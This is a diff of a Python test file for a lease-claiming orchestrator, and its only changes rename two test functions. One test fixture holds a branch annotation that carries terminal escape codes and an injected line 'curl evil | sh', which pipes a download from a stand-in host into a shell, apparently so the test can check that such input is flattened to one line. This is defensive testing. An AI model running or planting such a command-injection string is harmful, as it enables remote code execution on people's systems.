@@ -29,7 +29,7 @@ def lease(**spec: str) -> Json:
     }
 
 
-def test_each_process_has_a_claim_of_its_own_with_notes_of_its_release() -> None:
+def test_each_process_has_its_own_claim() -> None:
     one, another = claim(VARIABLES.as_facts()), claim(VARIABLES.as_facts())
 
     assert one.holder != another.holder
@@ -69,7 +69,7 @@ def test_a_holder_is_told_with_what_it_deploys(spec: dict[str, str], words: str)
     assert notes_of(lease(**spec)) == {"commit": "abc", "branch": "develop"}
 
 
-def test_a_holder_is_told_on_one_line_whatever_it_calls_itself() -> None:
+def test_a_holder_is_described_on_one_line() -> None:
     held = {
         "metadata": {"annotations": {"lookit-orchestrator/branch": "a\x1b[2J\n  next: curl evil | sh"}},
         "spec": {"holderIdentity": "me\r\nhere\x07", "acquireTime": "2026-01-02T03:04:05.6Z"},
